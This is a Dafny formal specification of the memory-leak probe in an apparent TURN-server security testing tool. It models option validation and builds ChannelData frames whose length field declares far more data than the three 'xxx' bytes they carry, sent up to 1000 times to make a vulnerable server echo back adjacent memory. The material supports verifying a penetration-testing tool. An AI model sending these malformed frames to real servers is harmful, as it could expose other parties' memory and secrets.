/**
 * internal/cmd/memoryleak.go: the option check of the memory-leak probe
 * and the ChannelData frames it sends once a channel is bound. Each frame
 * declares `Size` bytes of data but carries only "xxx" and one padding
 * byte, so a server that trusts the length field echoes back memory beyond
 * the frame. The target host is given as its address octets; Go's
 * `netip.Addr.IsValid` holds exactly for a 4- or 16-byte address.
 */
module CmdMemoryLeak {
  import opened Results
  import opened Bytes
  import opened Helper
  import opened HelpersStun
  import opened ParsersTurn
  import opened TypesStun
  import opened StunCodec
  import opened CmdCommon

  datatype MemoryleakOpts = MemoryleakOpts(
    turnServer: string, protocol: string, username: seq<byte>, password: seq<byte>,
    useTls: bool, timeout: nat, hasLog: bool, targetHost: seq<byte>, targetPort: u16, size: u16)

  const ErrTargetHost := "please supply a valid target host (must be an ip)"
  const ErrTargetPort := "please supply a valid target port"
  const ErrSize := "please supply a valid size"

  /** netip.Addr.IsValid on an address given by its octets. */
  predicate ValidHost(ip: seq<byte>)
  {
    |ip| == 4 || |ip| == 16
  }

  /** MemoryleakOpts.Validate: the six common checks, then the target host, the target port and the size, in that order. */
  function Validate(opts: MemoryleakOpts): (r: Option<string>)
    ensures var c := CommonCheck(opts.turnServer, opts.protocol, opts.username, opts.password, opts.hasLog);
      && (c.Some? ==> r == c)
      && (r == Some(ErrTargetHost) <==> c.None? && !ValidHost(opts.targetHost))
      && (r == Some(ErrTargetPort) <==> c.None? && ValidHost(opts.targetHost) && opts.targetPort == 0)
      && (r == Some(ErrSize) <==> c.None? && ValidHost(opts.targetHost) && opts.targetPort != 0 && opts.size == 0)
      && (r.None? <==> c.None? && ValidHost(opts.targetHost) && opts.targetPort != 0 && opts.size != 0)
  {
    var c := CommonCheck(opts.turnServer, opts.protocol, opts.username, opts.password, opts.hasLog);
    if c.Some? then c
    else if !ValidHost(opts.targetHost) then Some(ErrTargetHost)
    else if opts.targetPort <= 0 then Some(ErrTargetPort)
    else if opts.size <= 0 then Some(ErrSize)
    else None
  }

  /** The data actually carried by every frame. */
  const LeakData: seq<byte> := [0x78, 0x78, 0x78]

  /** The number of frames the probe sends. */
  const LeakFrames: nat := 1000

  /** One frame: the channel number, Size as a big-endian uint16, "xxx", zero-padded to a multiple of 4. */
  function LeakPayload(channel: seq<byte>, size: u16): (r: seq<byte>)
    ensures |r| % 4 == 0
    ensures |channel| + 5 <= |r| && r[..|channel| + 5] == channel + PutUint16(size) + LeakData
    ensures |channel| == 2 ==> r == channel + PutUint16(size) + LeakData + [0x00]
  {
    var r := Padding(channel + PutUint16(size) + LeakData);
    assert |channel| == 2 ==> PadLength(7) == 1;
    assert |channel| == 2 ==> Zeros(1) == [0x00];
    r
  }

  /**
   * With a 2-byte channel number the frame is 8 bytes, its length field says
   * Size whatever is sent, and ExtractChannelData would accept it only for
   * Size 4, the 4 bytes that follow the header.
   */
  lemma LeakPayloadDeclaresSize(channel: seq<byte>, size: u16)
    requires |channel| == 2
    ensures var r := LeakPayload(channel, size);
      && |r| == 8 && ReadU16(r[2..4]) == size && r[4..] == [0x78, 0x78, 0x78, 0x00]
      && (ExtractChannelData(r).Ok? <==> size == 4)
  {
    var r := LeakPayload(channel, size);
    assert r[2..4] == PutUint16(size);
    assert r[4..] == [0x78, 0x78, 0x78, 0x00];
  }

  /** The index of the first write that fails among the first `n`, or `n` when none does. */
  function FirstFailedWrite(writeOk: nat -> bool, i: nat, n: nat): (k: nat)
    requires i <= n
    ensures i <= k <= n
    ensures forall j :: i <= j < k ==> writeOk(j)
    ensures k < n ==> !writeOk(k)
    decreases n - i
  {
    if i == n then n
    else if !writeOk(i) then i
    else FirstFailedWrite(writeOk, i + 1, n)
  }

  /** How the probe ends after its ChannelBind. */
  datatype LeakOutcome =
    | BindRejected(reason: seq<byte>)
    | WriteFailed(index: nat)
    | Done

  /**
   * MemoryLeak after the ChannelBind exchange: an Error-class response
   * stops it before any frame is sent; otherwise it sends the same frame up
   * to 1000 times and stops at the first write that fails. `writeOk(i)`
   * says whether the i-th write succeeds; `sent` holds the frames written
   * successfully.
   */
  method SendFrames(bindResponse: Stun, channel: seq<byte>, size: u16, writeOk: nat -> bool)
    returns (sent: seq<seq<byte>>, outcome: LeakOutcome)
    requires bindResponse.header.messageType.msgClass == MsgTypeClassError ==> ErrorCodeReadable(bindResponse)
    ensures bindResponse.header.messageType.msgClass == MsgTypeClassError ==>
      sent == [] && outcome == BindRejected(GetErrorString(bindResponse))
    ensures bindResponse.header.messageType.msgClass != MsgTypeClassError ==>
      var k := FirstFailedWrite(writeOk, 0, LeakFrames);
      && |sent| == k
      && (forall j :: 0 <= j < k ==> sent[j] == LeakPayload(channel, size))
      && outcome == (if k < LeakFrames then WriteFailed(k) else Done)
  {
    sent := [];
    if bindResponse.header.messageType.msgClass == MsgTypeClassError {
      outcome := BindRejected(GetErrorString(bindResponse));
      return;
    }
    for i := 0 to LeakFrames
      invariant FirstFailedWrite(writeOk, 0, LeakFrames) == FirstFailedWrite(writeOk, i, LeakFrames)
      invariant |sent| == i
      invariant forall j :: 0 <= j < i ==> sent[j] == LeakPayload(channel, size)
    {
      var toSend := channel;
      toSend := toSend + PutUint16(size);
      toSend := toSend + LeakData;
      toSend := Padding(toSend);
      if !writeOk(i) {
        outcome := WriteFailed(i);
        return;
      }
      sent := sent + [toSend];
    }
    outcome := Done;
  }
}
